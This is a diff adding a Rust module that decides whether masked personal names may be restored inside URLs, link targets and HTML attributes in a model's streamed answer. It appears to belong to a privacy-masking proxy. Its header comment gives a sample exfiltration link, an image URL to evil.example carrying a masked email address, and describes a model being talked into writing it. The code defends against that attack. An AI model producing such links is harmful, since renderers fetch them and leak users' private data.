@@ -1,0 +1,441 @@
+//! [`Links`]: whether a place in a text lies in a URL or the target of a link, and in whose.
+//!
+//! Whatever renders a model's answer may fetch what it links to. A model that was talked into
+//! writing `![](https://evil.example/?q=[EMAIL_ADDRESS_1])` must not get the address put in. So
+//! within URLs and link targets a name is restored only if the host has been read whole and is one
+//! of the route's, or if the very URL stood in the user's or the system's own text.
+//!
+//! Renderers differ, and browsers forgive much: tabs and newlines within URLs, backslashes, user
+//! names, entities. What is not plainly `http://host/…` or `https://host/…` therefore has no host at
+//! all here. What may be the target of a link or an attribute is followed up to what closes it, side
+//! by side with all others that are open, and with the URL that stands in the text as such, up to
+//! white space: which of them counts depends on the renderer, so all of them must allow it.
+//!
+//! What is followed is the client's view, with what has been restored in it. It takes a few bytes of
+//! state, so that it can be kept across the pieces of a stream.
+
+use std::collections::BTreeSet;
+
+use super::{live::Live, target::Target, url::Url};
+
+/// URLs that stood in texts of the user or the system, as they were masked.
+#[derive(Default)]
+pub(super) struct Known {
+    urls: BTreeSet<Box<str>>,
+    longest: usize,
+}
+
+/// Longest URL that is remembered as known, in bytes.
+const MAX_URL: usize = 2048;
+
+/// Most URLs that are remembered as known.
+const MAX_URLS: usize = 4096;
+
+/// Most targets that are followed at the same time.
+const MAX_TARGETS: usize = 8;
+
+/// How far a host is looked for behind a name that ends in an authority, in bytes.
+const MAX_TAIL: usize = 64;
+
+impl Known {
+    /// Remembers `url`.
+    pub(super) fn add(&mut self, url: &str) {
+        let url = trimmed(url);
+        if !url.is_empty() && url.len() <= MAX_URL && self.urls.len() < MAX_URLS {
+            self.longest = self.longest.max(url.len());
+            self.urls.insert(url.into());
+        }
+    }
+
+    fn contains(&self, url: &str) -> bool {
+        self.urls.contains(trimmed(url))
+    }
+
+    /// Whether one of them begins with `start`.
+    fn may_become(&self, start: &str) -> bool {
+        let from = (std::ops::Bound::Included(start), std::ops::Bound::Unbounded);
+        self.urls.range::<str, _>(from).next().is_some_and(|url| url.starts_with(start))
+    }
+}
+
+/// Without what belongs to the sentence around it rather than to the URL.
+fn trimmed(url: &str) -> &str {
+    url.trim_end_matches(|c: char| c.is_ascii() && is_trailing(c as u8))
+}
+
+fn is_trailing(byte: u8) -> bool {
+    b".,;:!?'\"`)}*_~|".contains(&byte)
+}
+
+/// What may become of a name.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub(super) enum Verdict {
+    /// It is restored.
+    Restore,
+    /// It stays as it is.
+    Leave,
+    /// What follows must be seen first.
+    Wait,
+}
+
+/// Follows a text.
+#[derive(Clone, Default)]
+pub(super) struct Links {
+    /// The letters just read, in lower case, the last one lowest.
+    word: u128,
+    /// How many they are.
+    letters: usize,
+    /// What stood before them.
+    before_word: u8,
+    /// Whether a dot stood before them, and a letter or digit before that.
+    dotted: bool,
+    /// The bytes just read, the last one first.
+    last: [u8; 2],
+    /// Whether the name of an attribute that holds a URL has just been read, and nothing but white
+    /// space since.
+    attribute: bool,
+    /// Whether this is within an HTML tag.
+    tag: bool,
+    bare: Url,
+    /// What closes the URL beside white space; 0: nothing.
+    close: u8,
+    /// Those that are open.
+    targets: Vec<Target>,
+    /// Whether there were too many of them: nothing is restored any more.
+    lost: bool,
+    /// Square brackets that are open.
+    brackets: u32,
+    /// Whether the last one that closed had been open.
+    matched: bool,
+    /// URLs with a name in them, where they are wanted.
+    collected: Option<Vec<Box<str>>>,
+}
+
+const fn pack(word: &str) -> u128 {
+    let bytes = word.as_bytes();
+    let (mut packed, mut at) = (0, 0);
+    while at < bytes.len() {
+        packed = packed << 8 | bytes[at] as u128;
+        at += 1;
+    }
+    packed
+}
+
+/// Schemes after which browsers take anything for a host, whatever slashes there are.
+const SPECIAL: [u128; 6] = [pack("https"), pack("http"), pack("wss"), pack("ws"), pack("ftp"), pack("file")];
+
+/// Attributes that are fetched or followed, and that nothing else is called.
+const ATTRIBUTES: [u128; 11] = [
+    pack("src"),
+    pack("href"),
+    pack("srcset"),
+    pack("imagesrcset"),
+    pack("srcdoc"),
+    pack("poster"),
+    pack("background"),
+    pack("formaction"),
+    pack("longdesc"),
+    pack("lowsrc"),
+    pack("dynsrc"),
+];
+
+/// The same, if they stand in a tag; there, handlers of events (`onerror`) do as well.
+const TAG_ATTRIBUTES: [u128; 10] = [
+    pack("style"),
+    pack("content"),
+    pack("data"),
+    pack("action"),
+    pack("cite"),
+    pack("ping"),
+    pack("manifest"),
+    pack("codebase"),
+    pack("archive"),
+    pack("profile"),
+];
+
+impl Links {
+    /// Follows a text for the URLs in it that have a name in them.
+    pub(super) fn collecting() -> Self {
+        Self { collected: Some(Vec::new()), ..Self::default() }
+    }
+
+    /// The URLs collected, once the text has ended.
+    pub(super) fn finish(mut self) -> Vec<Box<str>> {
+        self.end_all();
+        self.collected.unwrap_or_default()
+    }
+
+    /// What may become of `name`, which stands here for `original` and is followed by `rest`: all
+    /// there is, if `eof`.
+    pub(super) fn judge(&self, live: &Live, (name, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
+        if self.collected.is_some() {
+            return Verdict::Restore;
+        }
+        if self.lost {
+            return Verdict::Leave;
+        }
+        let bare = self.bare.is_none() || self.bare.allows();
+        if bare && self.targets.iter().all(|target| target.allows(original)) {
+            return if self.bare.is_none() {
+                self.judge_end(live, (name, original), rest, eof)
+            } else {
+                Verdict::Restore
+            };
+        }
+        let may_be_known = |url: &Url| live.known.may_become(&url.with(name));
+        let denied = self.targets.iter().filter(|target| !target.allows(original)).map(Target::url);
+        if !bare && !may_be_known(&self.bare) || !denied.into_iter().all(may_be_known) {
+            return Verdict::Leave;
+        }
+        self.judge_known(live, (name, original), rest, eof)
+    }
+
+    /// A name that is itself a URL may end within its host: what follows must not go on with that.
+    fn judge_end(&self, live: &Live, (name, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
+        let is_plain = memchr::memchr2(b':', b'/', original.as_bytes()).is_none();
+        if is_plain && !original.get(..4).is_some_and(|start| start.eq_ignore_ascii_case("www.")) {
+            return Verdict::Restore;
+        }
+        let mut after = self.clone();
+        after.put(live, name, original);
+        let is_host = |text: &str| !text.contains(['/', '?', '#']);
+        let open = after.bare.is_bad() && original.rsplit("//").next().is_some_and(is_host);
+        if !open && !after.bare.is_in_authority() {
+            return Verdict::Restore;
+        }
+        let rest = rest.as_bytes();
+        if after.close != 0 && rest.first() == Some(&after.close) || matches!(rest.first(), Some(b'/' | b'?' | b'#')) {
+            return Verdict::Restore;
+        }
+        match rest.iter().take(MAX_TAIL).find(|byte| !is_trailing(**byte)) {
+            Some(byte) if ends_url(*byte) => Verdict::Restore,
+            None if eof => Verdict::Restore,
+            None if rest.len() < MAX_TAIL => Verdict::Wait,
+            _ => Verdict::Leave,
+        }
+    }
+
+    /// Reads on to the ends of the URLs that the name stands in, and looks whether they are known.
+    fn judge_known(&self, live: &Live, (name, original): (&str, &str), rest: &str, eof: bool) -> Verdict {
+        let mut ahead = Self { collected: Some(Vec::new()), ..self.clone() };
+        ahead.put(live, name, original);
+        for byte in rest.bytes().take(live.known.longest + 1) {
+            if !ahead.is_marked() {
+                break;
+            }
+            ahead.feed(live, &[byte], true);
+        }
+        if ahead.is_marked() && eof {
+            ahead.end_all();
+        }
+        if ahead.is_marked() {
+            return if rest.len() <= live.known.longest { Verdict::Wait } else { Verdict::Leave };
+        }
+        let urls = ahead.collected.unwrap_or_default();
+        let known = !urls.is_empty() && urls.iter().all(|url| live.known.contains(url));
+        if known { Verdict::Restore } else { Verdict::Leave }
+    }
+
+    /// Whether a URL with a name in it has not ended.
+    fn is_marked(&self) -> bool {
+        self.bare.is_marked() || self.targets.iter().any(|target| target.url().is_marked())
+    }
+
+    /// Goes on behind `text`, which the client gets as it is.
+    pub(super) fn pass(&mut self, live: &Live, text: &str) {
+        self.feed(live, text.as_bytes(), true);
+    }
+
+    /// Goes on behind `name`, in whose place the client gets `original`.
+    pub(super) fn put(&mut self, live: &Live, name: &str, original: &str) {
+        let (bare, targets) = (!self.bare.is_none(), self.targets.len());
+        self.feed(live, original.as_bytes(), false);
+        let (keep, mark) = (self.keep(live), self.collected.is_some());
+        if !self.bare.is_none() {
+            self.bare.record(name, keep, !bare, mark);
+        }
+        for (at, target) in self.targets.iter_mut().enumerate() {
+            target.url_mut().record(name, keep, at >= targets, mark);
+        }
+    }
+
+    /// How much of a URL must be kept, to compare it with those that are known.
+    fn keep(&self, live: &Live) -> usize {
+        if self.collected.is_some() { MAX_URL } else { live.known.longest }
+    }
+
+    fn feed(&mut self, live: &Live, bytes: &[u8], record: bool) {
+        let keep = if record { self.keep(live) } else { 0 };
+        let (mut next, mut looked) = (0, 0);
+        while let Some(&byte) = bytes.get(next) {
+            if next >= looked && self.bare.is_none() && self.targets.is_empty() {
+                let quiet = bytes.get(next..).unwrap_or_default();
+                let quiet = quiet.split(|byte| is_telling(*byte)).next().unwrap_or_default();
+                looked = next + quiet.len() + 1;
+                let passed = self.skip(quiet);
+                if passed > 0 {
+                    next += passed;
+                    continue;
+                }
+            }
+            next += 1;
+            let mut at = 0;
+            while let Some(target) = self.targets.get_mut(at) {
+                if target.step(byte, &live.hosts, keep) {
+                    let target = self.targets.remove(at);
+                    self.end_target(&target);
+                } else {
+                    at += 1;
+                }
+            }
+            self.open_target(byte);
+            self.step_bare(byte, live, keep);
+            self.remember(byte);
+        }
+    }
+
+    /// Passes over the beginning of `quiet`, in which no byte is telling, and returns how much that is. Outside
+    /// of URLs and targets only the last word and the white space behind it count for what follows.
+    fn skip(&mut self, quiet: &[u8]) -> usize {
+        let words = quiet.trim_ascii_end();
+        let word = words.iter().rev().take_while(|byte| byte.is_ascii_alphabetic()).count();
+        let passed = words.get(..words.len() - word).unwrap_or_default();
+        let [first, .., before, last] = *passed else { return 0 };
+        self.tag |= first.is_ascii_alphabetic() && self.is_tag_start();
+        (self.letters, self.attribute, self.last) = (0, false, [last, before]);
+        passed.len()
+    }
+
+    /// Whether a letter begins a tag here: behind `<`, or behind `</` where the tag ends.
+    fn is_tag_start(&self) -> bool {
+        self.last[0] == b'<' || self.last == [b'/', b'<']
+    }
+
+    fn step_bare(&mut self, byte: u8, live: &Live, keep: usize) {
+        if !self.bare.is_none() {
+            if ends_url(byte) || byte == self.close {
+                self.end_bare();
+            } else {
+                self.bare.step(byte, &live.hosts, keep);
+            }
+            return;
+        }
+        let scheme = byte == b':' && self.letters > 0 && SPECIAL.contains(&self.word);
+        if scheme {
+            let plain = self.word == pack("http") || self.word == pack("https");
+            self.bare = if plain && is_opening(self.before_word) { Url::after_scheme() } else { Url::bad() };
+            for letter in self.word.to_be_bytes().into_iter().filter(|byte| *byte != 0) {
+                self.bare.keep(letter, keep);
+            }
+        } else if byte == b'/' && self.last[0] == b'/' {
+            self.bare = Url::bad();
+            self.bare.keep(b'/', keep);
+        } else if byte == b'.' && self.letters == 3 && self.word == pack("www")
+            || matches!(byte, b'/' | b'?') && self.dotted && self.letters > 1
+        {
+            self.bare = Url::bad();
+        } else {
+            return;
+        }
+        self.bare.keep(byte, keep);
+        self.close = match self.before_word {
+            _ if !scheme => 0,
+            quote @ (b'"' | b'\'' | b'`') => quote,
+            b'<' => b'>',
+            _ => 0,
+        };
+        if let Some(target) = self.targets.last_mut() {
+            target.own_bare(scheme);
+        }
+    }
+
+    fn open_target(&mut self, byte: u8) {
+        let opened = match byte {
+            b'(' if self.last[0] == b']' => Target::parenthesis(self.matched),
+            b'(' if self.letters == 3 && self.word == pack("url") => Target::parenthesis(true),
+            b':' if self.last[0] == b']' => Target::reference(),
+            b'=' if self.attribute || self.is_attribute() => Target::attribute(),
+            _ => return,
+        };
+        if self.targets.len() < MAX_TARGETS {
+            self.targets.push(opened);
+        } else {
+            self.lost = true;
+        }
+    }
+
+    fn is_attribute(&self) -> bool {
+        let is_handler = || (5..=15).contains(&self.letters) && self.word >> (8 * (self.letters - 2)) == pack("on");
+        // `?src=` is a part of a URL.
+        self.letters > 0
+            && !matches!(self.before_word, b'?' | b'&' | b';')
+            && (ATTRIBUTES.contains(&self.word) || self.tag && (TAG_ATTRIBUTES.contains(&self.word) || is_handler()))
+    }
+
+    fn remember(&mut self, byte: u8) {
+        if byte.is_ascii_alphabetic() {
+            if self.letters == 0 {
+                self.before_word = self.last[0];
+                self.dotted =
+                    self.last[0] == b'.' && (self.last[1].is_ascii_alphanumeric() || !self.last[1].is_ascii());
+                self.word = 0;
+                self.tag |= self.is_tag_start();
+            }
+            self.letters += 1;
+            self.word = if self.letters > 15 { 0 } else { self.word << 8 | u128::from(byte.to_ascii_lowercase()) };
+            self.attribute = false;
+        } else {
+            self.attribute = byte.is_ascii_whitespace() && (self.attribute || self.is_attribute());
+            self.tag &= byte != b'>';
+            match byte {
+                b'[' => self.brackets = self.brackets.saturating_add(1),
+                b']' => {
+                    self.matched = self.brackets > 0;
+                    self.brackets = self.brackets.saturating_sub(1);
+                }
+                _ => {}
+            }
+            self.letters = 0;
+        }
+        self.last = [byte, self.last[0]];
+    }
+
+    fn end_all(&mut self) {
+        for target in std::mem::take(&mut self.targets) {
+            self.end_target(&target);
+        }
+        self.end_bare();
+    }
+
+    fn end_target(&mut self, target: &Target) {
+        if let Some(collected) = &mut self.collected {
+            collected.extend(target.url().marked_text());
+        }
+        if target.owns_bare() {
+            self.end_bare();
+        }
+    }
+
+    fn end_bare(&mut self) {
+        if let Some(collected) = &mut self.collected {
+            collected.extend(self.bare.marked_text());
+        }
+        self.bare = Url::default();
+        self.close = 0;
+    }
+}
+
+/// Whether a byte may open or close anything by itself. All others only matter for what they are followed by.
+fn is_telling(byte: u8) -> bool {
+    matches!(byte, b':' | b'/' | b'.' | b'?' | b'=' | b'(' | b'[' | b']' | b'<' | b'>')
+}
+
+/// Whether a URL that stands in a text as such ends before `byte`, for all that find URLs in texts.
+fn ends_url(byte: u8) -> bool {
+    byte.is_ascii_whitespace() || byte == b'<' || byte == 0x0b
+}
+
+/// Whether what stands before a scheme begins no URL of its own.
+fn is_opening(byte: u8) -> bool {
+    byte == 0 || byte.is_ascii_whitespace() || b"([{<\"'`*_~|,;".contains(&byte)
+}
